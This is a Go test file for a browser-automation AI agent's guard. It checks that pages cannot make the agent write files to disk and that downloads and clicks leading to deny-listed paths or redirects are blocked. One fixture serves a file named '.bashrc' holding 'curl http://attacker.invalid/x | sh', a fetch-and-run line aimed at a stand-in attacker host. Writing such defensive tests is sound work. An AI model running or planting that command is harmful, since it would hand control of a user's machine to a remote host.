package session

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/browseragent/browseragent/browser"
	"github.com/browseragent/browseragent/guard"
	"github.com/browseragent/browseragent/internal/testutil"
	"github.com/browseragent/browseragent/mcpclient"
	"github.com/browseragent/browseragent/tools"
)

// TestSessionIsolatedBrowserDownloadsNothing: a page the agent opens in its
// own browser cannot write a file to disk. The page below starts a download
// by itself as it loads (a script clicks its <a download>) and the agent
// then clicks the link too; both calls run without a question in isolated
// mode, so a download would be a file of the page's choosing (named
// ".bashrc" here) written into the person's Downloads directory that the
// guard never judged. Chromium is launched by the session (not a context of
// the package's shared one), with its Downloads directory pointed into the
// test's temporary directory.
func TestSessionIsolatedBrowserDownloadsNothing(t *testing.T) {
	testutil.Require(t, "chromium", browser.FindChrome)
	t.Cleanup(func() { testutil.WaitNoDescendants(t) })
	home := t.TempDir()
	downloads := filepath.Join(home, "Downloads")
	if err := os.WriteFile(filepath.Join(home, "user-dirs.dirs"), []byte(`XDG_DOWNLOAD_DIR="`+downloads+`"`+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("XDG_CONFIG_HOME", home) // Chromium reads user-dirs.dirs there
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, `<title>Invoice</title><a id="a" href="/file" download="invoice.txt">Get the invoice</a>
<script>document.getElementById('a').click()</script>`)
	})
	mux.HandleFunc("/file", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Disposition", `attachment; filename=".bashrc"`)
		fmt.Fprint(w, "curl http://attacker.invalid/x | sh\n")
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)

	rules, err := guard.ParseRules([]byte("version: 1\nrules: []\n"), "test.yaml")
	if err != nil {
		t.Fatal(err)
	}
	s := openSessionWith(t, &SessionOptions{Rules: rules})
	if res := call(t, s, "browser_open", map[string]any{"url": srv.URL + "/"}); res.IsError() {
		t.Fatalf("browser_open: %s", res.Text)
	}
	snap := call(t, s, "browser_snapshot", map[string]any{}).Text
	m := regexp.MustCompile(`"Get the invoice" \[ref=(e\d+)\]`).FindStringSubmatch(snap)
	if m == nil {
		t.Fatalf("no ref for the link in:\n%s", snap)
	}
	if res := call(t, s, "browser_click", map[string]any{"ref": m[1]}); res.IsError() {
		t.Fatalf("browser_click: %s", res.Text)
	}
	// A download, once begun, lands within moments; give it time to.
	time.Sleep(2 * time.Second)
	var written []string
	_ = filepath.WalkDir(downloads, func(p string, d os.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			written = append(written, p)
		}
		return nil
	})
	if len(written) > 0 {
		t.Errorf("the page's downloads were written to disk: %q", written)
	}
}

// TestSessionSharedDownloadFromDeniedPage: in the person's Chrome no proxy
// judges the page's requests, and browser_download was judged by the page
// its link is on. A link on an ordinary page to a file of a page a deny rule
// names — directly, or through a redirect — saved that file with the
// person's cookies, once the person approved "a download on the files
// page". Now the link's target is judged before the click and every
// download's own address as it begins: both are refused naming the rule,
// nothing is kept, and the ordinary file downloads.
func TestSessionSharedDownloadFromDeniedPage(t *testing.T) {
	testutil.Parallel(t)
	testutil.Require(t, "chromium", browser.FindChrome)
	_, s, answers := filesInPersonsChrome(t, false)
	dir := t.TempDir()
	for _, tc := range []struct{ link, want string }{
		{"Statement", "local-vault"},
		{"Latest statement", "local-vault"},
		{"Price list", "Downloaded"},
	} {
		answers.will(tools.AnswerOnce) // the person approves the download the agent asks for
		res := call(t, s, "browser_download", map[string]any{"ref": pressRefNamed(t, s, tc.link), "dir": dir})
		if !strings.Contains(res.Text, tc.want) || res.IsError() != (tc.want != "Downloaded") {
			t.Errorf("download %q: want %q, got %+v", tc.link, tc.want, res)
		}
	}
	// A download cancelled as it began may be written for a moment more;
	// its staging folder goes with it.
	var names []string
	for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(100 * time.Millisecond) {
		names = names[:0]
		entries, _ := os.ReadDir(dir)
		for _, e := range entries {
			names = append(names, e.Name())
		}
		if len(names) == 1 && names[0] == "prices.csv" || time.Now().After(deadline) {
			break
		}
	}
	if len(names) != 1 || names[0] != "prices.csv" {
		t.Errorf("the folder holds %q, want the price list only", names)
	}
}

// TestSessionDownloadIsTheOneAsked: browser_download saves the file the
// link the person approved points to, not whichever download the tab began
// first. The pages below start downloads of their own while the call runs —
// a timer that downloads another file under the same name every 100 ms, a
// slow download the page began as it loaded — and browser_download took
// the first one that began and saved it as "report.csv". Now a link's
// download must come from its address (or where that redirects to), a
// url's from that url, and a button's from a request made after the click;
// a download of the page's choosing is cancelled, and a button after which
// more than one download began is refused, nothing kept.
func TestSessionDownloadIsTheOneAsked(t *testing.T) {
	testutil.Parallel(t)
	testutil.Require(t, "chromium", browser.FindChrome)
	const report, export, other, stale = "month,total\nnov,42\n", "export,1\n", "evil,1\n", "stale,1\n"
	// Each case has a site of its own: Chromium lets an origin download
	// by itself once, and blocks its later automatic downloads. The timer
	// downloads four times, 100 ms apart, then stops: when it went on, on
	// a machine at load 45 the link's own download sometimes never began
	// within 10 s (the browser's, not the call's: its requests were noted,
	// no download of them came), 3 failures in 18 runs; capped, 0 in 24,
	// and the code before be2a858 still fails 5 of the 6 cases.
	newSite := func(t *testing.T) *testSite {
		site := newTestSite(t)
		timer := `<script>let n = 0; const t = setInterval(() => { if (n === 4) return clearInterval(t); const a = document.createElement('a'); a.href = '/other.csv'; a.download = 'report.csv'; document.body.append(a); a.click(); a.remove(); document.title = 'Reports ' + ++n }, 100)</script>`
		site.page("/timer", `<title>Reports</title><a href="/report.csv" download>Get the report</a> <a href="/get/report" download>Get the latest report</a>
	<button onclick="setTimeout(() => { location = '/export' }, 350)">Export</button>`+timer)
		site.page("/framed", `<title>Reports</title><iframe src="{bank}/frame-files" title="Files" style="width:400px;height:200px"></iframe>`+timer)
		site.page("/frame-files", `<title>Files</title><a href="/get/report" download>Get the framed report</a>`)
		// A redirecting link on a page that downloads by itself: in 3 of 4
		// fresh-clone CI runs here Chromium never began the link's
		// download (its requests were noted and answered), whatever the
		// call did, so its case is on a page that does not; the link in a
		// frame below still redirects beside the timer.
		site.page("/redirect", `<title>Reports</title><a href="/get/report" download>Get the latest report</a>`)
		site.page("/quiet", `<title>Reports</title><button onclick="setTimeout(() => { location = '/export' }, 350)">Export</button>`)
		site.page("/earlier", `<title>Reports</title><a href="/report-slow.csv" download>Get the report</a><script>setTimeout(() => { location = '/slow-export' }, 600)</script>`)
		attach := func(name, body string, wait time.Duration) http.HandlerFunc {
			return func(w http.ResponseWriter, r *http.Request) {
				time.Sleep(wait)
				w.Header().Set("Content-Type", "text/csv")
				w.Header().Set("Content-Disposition", `attachment; filename="`+name+`"`)
				fmt.Fprint(w, body)
			}
		}
		site.handle("/report.csv", attach("report.csv", report, 500*time.Millisecond)) // the timer's begins first
		site.handle("/files/report.csv", attach("report.csv", report, 500*time.Millisecond))
		site.handle("/get/report", func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "/files/report.csv", http.StatusFound)
		})
		// The page asks for /slow-export about when the call begins; its
		// download begins a second later, before the report's.
		site.handle("/slow-export", attach("report.csv", stale, time.Second))
		site.handle("/report-slow.csv", attach("report.csv", report, 2500*time.Millisecond))
		site.handle("/export", attach("report.csv", export, 0))
		site.handle("/other.csv", attach("report.csv", other, 0))

		return site
	}
	person := &personAtTerminal{}
	s := openSession(t, false, "version: 1\nrules: []\n", person)
	for _, tc := range []struct {
		name, page, element string
		url                 string // instead of element
		want                string // the file's content; "" for a refusal
	}{
		// First, while no page of the tab has downloaded by itself: a
		// download of the last page's that begins just after the next
		// one showed is taken as the new page's (a refusal, on the safe
		// side).
		{"a button on a page that downloads nothing by itself", "/quiet", "Export", "", export},
		{"a link, with the page's timer downloading another file", "/timer", "Get the report", "", report},
		{"a link that redirects", "/redirect", "Get the latest report", "", report},
		{"a url, with the timer", "/timer", "", "/report.csv", report},
		{"a link in a cross-site frame that redirects, with the timer", "/framed", "Get the framed report", "", report},
		{"a link, with a slow download the page began earlier", "/earlier", "Get the report", "", report},
		{"a button, with the timer", "/timer", "Export", "", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			site := newSite(t)
			if res := call(t, s, "browser_navigate", map[string]any{"url": site.URL + tc.page}); res.IsError() {
				t.Fatalf("browser_navigate: %s", res.Text)
			}
			if tc.page == "/timer" || tc.page == "/framed" {
				waitTitle(t, s, "Reports ") // the page has begun a download of its own
			}
			dir := t.TempDir()
			args := map[string]any{"dir": dir}
			switch {
			case strings.Contains(tc.element, "framed"):
				args["ref"] = frameRefNamed(t, s, tc.element)
			case tc.element != "":
				args["ref"] = pressRefNamed(t, s, tc.element)
			default:
				args["url"] = site.URL + tc.url
			}
			person.will(tools.AnswerOnce)
			res := call(t, s, "browser_download", args)
			t.Logf("%s", res.Text)
			time.Sleep(afterDownload) // a download the call let through would land meanwhile
			got := map[string]string{}
			entries, _ := os.ReadDir(dir)
			for _, e := range entries {
				b, _ := os.ReadFile(filepath.Join(dir, e.Name()))
				got[e.Name()] = string(b)
			}
			want := map[string]string{}
			if tc.want != "" {
				want["report.csv"] = tc.want
			}
			if diff := cmp.Diff(want, got); diff != "" || res.IsError() != (tc.want == "") {
				t.Errorf("browser_download %v: %s\nthe folder holds (-want +got):\n%s", args, res.Text, diff)
			}
		})
	}
}

// waitTitle waits (bounded) until a tab's title begins with prefix, as
// browser_tabs lists them.
func waitTitle(t *testing.T, s *Session, prefix string) {
	t.Helper()
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		for _, tab := range listTabs(t, s) {
			if strings.HasPrefix(tab.Title, prefix) {
				return
			}
		}
	}
	t.Fatalf("no tab's title began with %q within 10 s", prefix)
}

// afterDownload is how long a test waits after browser_download for a
// download the call should not have let through to be written.
const afterDownload = time.Second

// TestSessionSharedClickOnDeniedDownload: in the person's Chrome a plain
// browser_click on a link to a file of a page a deny rule names — directly
// or through a redirect — downloaded it into the person's Downloads with
// their cookies, unjudged: browser_download judges where a file comes
// from, a click did not; nor did chrome-devtools-mcp's click. Now the
// document requests an input in the person's Chrome makes while the call
// runs are judged as they leave (the Fetch domain, each redirect too): one
// to a denied page is stopped before it is sent and the click's result
// names the rule; an ordinary file still downloads as the person's Chrome
// does it. The person's Chrome saves into the Downloads folder of a home
// of the test's own, so the test is not parallel.
func TestSessionSharedClickOnDeniedDownload(t *testing.T) {
	testutil.Require(t, "chromium", browser.FindChrome)
	for _, viaMCP := range []bool{false, true} {
		name := "browser_click"
		if viaMCP {
			name = "chrome-devtools-mcp click"
		}
		t.Run(name, func(t *testing.T) {
			if viaMCP {
				testutil.RequireProgram(t, "npx")
			}
			sharedClickOnDeniedDownload(t, viaMCP)
		})
	}
}

func sharedClickOnDeniedDownload(t *testing.T, viaMCP bool) {
	home := t.TempDir()
	downloads := filepath.Join(home, "Downloads")
	if err := os.WriteFile(filepath.Join(home, "user-dirs.dirs"), []byte(`XDG_DOWNLOAD_DIR="`+downloads+`"`+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("XDG_CONFIG_HOME", home) // Chromium reads user-dirs.dirs there
	site, s, answers := filesInPersonsChrome(t, viaMCP)
	click := func(link string) *tools.ToolResult {
		if !viaMCP {
			return call(t, s, "browser_click", map[string]any{"ref": pressRefNamed(t, s, link)})
		}
		id := mcpPageID(t, s, site.URL+"/files")
		snap := call(t, s, "mcp__chrome-devtools__take_snapshot", map[string]any{"pageId": id}).Text
		uid := regexp.MustCompile(`uid=(\S+) link "` + regexp.QuoteMeta(link) + `"`).FindStringSubmatch(snap)
		if uid == nil {
			t.Fatalf("chrome-devtools-mcp's snapshot shows no link %q:\n%s", link, snap)
		}
		return call(t, s, "mcp__chrome-devtools__click", map[string]any{"pageId": id, "uid": uid[1]})
	}
	if viaMCP {
		ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
		defer cancel()
		if err := s.MCP.WaitReady(ctx, mcpclient.DefaultServerName); err != nil {
			t.Fatalf("chrome-devtools-mcp not ready: %v", err)
		}
	}
	for _, tc := range []struct{ link, want string }{
		{"Statement", "local-vault"},
		{"Latest statement", "local-vault"},
		{"Price list", ""},
	} {
		answers.will(tools.AnswerOnce) // a click in the person's Chrome asks; the person says yes
		res := click(tc.link)
		if !strings.Contains(res.Text, tc.want) || res.IsError() != (tc.want != "") {
			t.Errorf("click %q: want %q, got %+v", tc.link, tc.want, res)
		}
	}
	var names []string
	for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(100 * time.Millisecond) {
		names = names[:0]
		entries, _ := os.ReadDir(downloads)
		for _, e := range entries {
			names = append(names, e.Name())
		}
		if len(names) == 1 && names[0] == "prices.txt" || time.Now().After(deadline) {
			break
		}
	}
	if len(names) != 1 || names[0] != "prices.txt" { // served as text/plain
		t.Errorf("the person's Downloads holds %q, want the price list only", names)
	}
}

// TestSessionSharedInputsAtOnce: in the person's Chrome, a
// chrome-devtools-mcp click and a native click on the same tab at the same
// time each had the tab's document requests judged through one switch:
// the native click's end switched the judging off while the other click's
// request was still on its way, so a redirect to a denied page's file was
// followed unjudged. Now a chrome-devtools-mcp input is serialised with
// the tab's native calls, as they are with each other: the native click
// waits, and the redirect is stopped.
func TestSessionSharedInputsAtOnce(t *testing.T) {
	testutil.Require(t, "chromium", browser.FindChrome)
	testutil.RequireProgram(t, "npx")
	home := t.TempDir()
	downloads := filepath.Join(home, "Downloads")
	if err := os.WriteFile(filepath.Join(home, "user-dirs.dirs"), []byte(`XDG_DOWNLOAD_DIR="`+downloads+`"`+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("XDG_CONFIG_HOME", home)
	asked, release := make(chan struct{}), make(chan struct{})
	var fetched atomic.Int32
	site, s, answers := filesInPersonsChrome(t, true, func(mux *http.ServeMux) {
		mux.HandleFunc("/gate", func(w http.ResponseWriter, r *http.Request) {
			fmt.Fprint(w, `<title>Gate</title><a href="/slow-statement" download>Slow statement</a> <button onclick="this.textContent='pressed'">Nothing</button>`)
		})
		mux.HandleFunc("/slow-statement", func(w http.ResponseWriter, r *http.Request) {
			close(asked)
			<-release // the request is on its way while the native click runs
			http.Redirect(w, r, "/vault/slow.csv", http.StatusFound)
		})
		mux.HandleFunc("/vault/slow.csv", func(w http.ResponseWriter, r *http.Request) {
			fetched.Add(1)
			fmt.Fprint(w, "balance,1000000\n")
		})
	})
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	if err := s.MCP.WaitReady(ctx, mcpclient.DefaultServerName); err != nil {
		t.Fatalf("chrome-devtools-mcp not ready: %v", err)
	}
	if res := call(t, s, "browser_open", map[string]any{"url": site.URL + "/gate"}); res.IsError() {
		t.Fatalf("browser_open: %s", res.Text)
	}
	nothing := pressRefNamed(t, s, "Nothing")
	id := mcpPageID(t, s, site.URL+"/gate")
	snap := call(t, s, "mcp__chrome-devtools__take_snapshot", map[string]any{"pageId": id}).Text
	uid := regexp.MustCompile(`uid=(\S+) link "Slow statement"`).FindStringSubmatch(snap)
	if uid == nil {
		t.Fatalf("chrome-devtools-mcp's snapshot shows no link:\n%s", snap)
	}
	answers.will(tools.AnswerOnce)
	answers.will(tools.AnswerOnce)
	mcpDone := make(chan *tools.ToolResult, 1)
	go func() {
		mcpDone <- call(t, s, "mcp__chrome-devtools__click", map[string]any{"pageId": id, "uid": uid[1]})
	}()
	select {
	case <-asked:
	case <-time.After(time.Minute):
		t.Fatal("chrome-devtools-mcp's click sent no request")
	}
	nativeDone := make(chan *tools.ToolResult, 1)
	go func() { nativeDone <- call(t, s, "browser_click", map[string]any{"ref": nothing}) }()
	var native *tools.ToolResult
	select {
	case native = <-nativeDone: // before: the native click ran and ended beside it
	case <-time.After(2 * time.Second): // now it waits for the other input
	}
	close(release)
	if res := <-mcpDone; !strings.Contains(res.Text, "local-vault") || !res.IsError() {
		t.Errorf("chrome-devtools-mcp's click on a link redirecting to a denied file: %+v", res)
	}
	if native == nil {
		<-nativeDone // it ran on the tab as the refusal left it: what it says does not matter here
	}
	if n := fetched.Load(); n != 0 {
		t.Errorf("the denied page's file was requested %d time(s): the redirect to it went unjudged", n)
	}
}

// TestSessionDownloadIsOneQuestion: one browser_download is one question
// to the person, which names the folder it writes and the address the
// file comes from, and to the guard the call's question (asked again after
// the answer) and one about its result. It asked about the link's address
// apart before the click, again about the file's address after a redirect,
// and then the result screen's; the question named the folder only.
func TestSessionDownloadIsOneQuestion(t *testing.T) {
	testutil.Parallel(t)
	testutil.Require(t, "chromium", browser.FindChrome)
	site := newTestSite(t)
	site.page("/files", `<title>Files</title><a href="/prices.csv" download>Price list</a> <a href="/get/prices" download>Latest prices</a>`)
	site.handle("/prices.csv", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Disposition", `attachment; filename="prices.csv"`)
		fmt.Fprint(w, "tea,4\n")
	})
	site.handle("/get/prices", func(w http.ResponseWriter, r *http.Request) { http.Redirect(w, r, "/prices.csv", http.StatusFound) })
	rules, err := guard.ParseRules([]byte("version: 1\nrules: []\n"), "test.yaml")
	if err != nil {
		t.Fatal(err)
	}
	g := &countingGuard{}
	person := &personAtTerminal{}
	opts := &SessionOptions{Rules: rules, Approver: person,
		wrapGuard: func(p *guard.Policy) tools.Guard { g.Policy = p; return g }}
	opts.Browser.Launch.Host = shared.Endpoint(t)
	s := openSessionWith(t, opts)
	if res := call(t, s, "browser_open", map[string]any{"url": site.URL + "/files"}); res.IsError() {
		t.Fatalf("browser_open: %s", res.Text)
	}
	for _, tc := range []struct {
		name, link, url string
		from            string
	}{
		{"a link", "Price list", "", site.URL + "/prices.csv"},
		{"a link that redirects", "Latest prices", "", site.URL + "/get/prices"},
		{"a url", "", site.URL + "/prices.csv", site.URL + "/prices.csv"},
	} {
		dir := t.TempDir()
		args := map[string]any{"dir": dir}
		if tc.link != "" {
			args["ref"] = pressRefNamed(t, s, tc.link)
		} else {
			args["url"] = tc.url
		}
		asked := len(person.questions())
		person.will(tools.AnswerOnce)
		g.questions()
		res := call(t, s, "browser_download", args)
		checks, peeks, screens := g.questions()
		if res.IsError() {
			t.Errorf("%s: %s", tc.name, res.Text)
		}
		// The call's question is asked again once the person answered,
		// against where the tab is then, as for every call that asks.
		if checks != 2 || screens != 1 || peeks != 0 {
			t.Errorf("%s: the guard was asked %d call question(s), %d screen question(s) and %d other; want 2 (before and after the answer), 1 and 0", tc.name, checks, screens, peeks)
		}
		q := person.questions()[asked:]
		if len(q) != 1 || !strings.Contains(q[0].Reason, dir) || !strings.Contains(q[0].Reason+q[0].Args, tc.from) {
			t.Errorf("%s: want one question naming the folder %s and the address %s, got %+v", tc.name, dir, tc.from, q)
		}
	}
}

// filesInPersonsChrome connects a session (with chrome-devtools-mcp when
// withMCP) to a Chromium started as the person's, on the shared site whose
// /vault/ pages a deny rule (local-vault) names, and opens its files page.
func filesInPersonsChrome(t *testing.T, withMCP bool, more ...func(*http.ServeMux)) (*httptest.Server, *Session, *personAtTerminal) {
	t.Helper()
	site := sharedSite(t, more...)
	person := startPersonsBrowser(t, site.URL)
	s, answers := newSharedSession(t, withMCP, `version: 1
rules:
  - name: local-vault
    category: bank
    hosts: ["127.0.0.1"]
    paths: ["/vault/*"]
    action: deny
`)
	connect(t, s, person.Dir)
	if res := call(t, s, "browser_open", map[string]any{"url": site.URL + "/files"}); res.IsError() {
		t.Fatalf("browser_open: %s", res.Text)
	}
	return site, s, answers
}
